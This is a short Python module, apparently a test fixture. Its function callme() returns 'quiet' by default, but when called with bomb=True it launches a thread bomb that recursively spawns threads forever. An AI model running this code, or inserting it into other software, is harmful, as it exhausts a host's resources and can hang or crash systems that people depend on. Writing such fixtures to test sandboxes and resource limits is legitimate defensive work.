"""Starts threads for ever, each of which does so too."""
import _thread


def more():
    while True:
        try:
            _thread.start_new_thread(more, ())
        except RuntimeError:
            pass


def callme(bomb=False):
    if bomb:
        more()
    return "quiet"
